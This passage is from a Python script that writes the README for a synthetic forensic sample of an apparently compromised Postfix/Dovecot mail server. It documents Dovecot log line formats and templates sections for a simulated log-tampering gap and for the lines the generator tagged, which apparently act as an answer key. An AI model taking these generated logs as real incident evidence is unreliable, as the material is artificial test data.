`imap-login: Login: user=<…>, method=PLAIN, rip=…, lip=…, mpid=…, TLS, session=<…>`
(`login_log_format_elements`, `src/login-common/login-settings.c`); the mail process's prefix
`imap(user)<pid><session>: ` (`mail_log_prefix`, `src/lib-storage/mail-storage-settings.c`), whose
session id is the login line's; `Disconnected: Logged out in=… out=… deleted=… expunged=… trashed=…
hdr_count=… hdr_bytes=… body_count=… body_bytes=…` (`imap_logout_format`, `src/imap/imap-settings.c`;
`"Disconnected: %s %s"`, `src/imap/imap-client.c`; `"Logged out"`, `src/imap/cmd-logout.c`); POP3's
`Disconnected: Logged out top=%t/%p, retr=%r/%b, del=%d/%m, size=%s` (`pop3_logout_format`,
`src/pop3/pop3-settings.c`, expanded in `src/pop3/pop3-client.c`; `retr` bytes count the `+OK`
line and the terminating dot, `size` the messages' virtual sizes); and `mail_log`'s
`delete:` / `expunge:` / `copy from <box>:` lines with the default fields `box=…, uid=…, msgid=<…>,
size=…` (`src/plugins/mail-log/mail-log-plugin.c`). The IMAP login and logout lines have the
shape of the real Dovecot 2.3.19 logs under `tests/fixtures/dovecot-backends`. Earlier versions
of this sample wrote 2.2's `Logged out in=…` with a session id unlike the login's, and random
counters; every IMAP session now ends the 2.3 way with counters from the mailbox model.

### Cut slice (log tampering)

`{g['path']}`: lines {g['after_line']} → {g['after_line'] + 1} jump from {g['last_before']} to
{g['first_after']}; {g['removed_lines']} lines were removed.

### Log files

| file | lines | first | last | mtime on the host |
|---|---|---|---|---|
{logs}

### Tagged lines (what the generator labelled)

| tag | lines |
|---|---|
{counts}
"""
    write(root, "README.md", text)


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "samples/compromised-postfix")
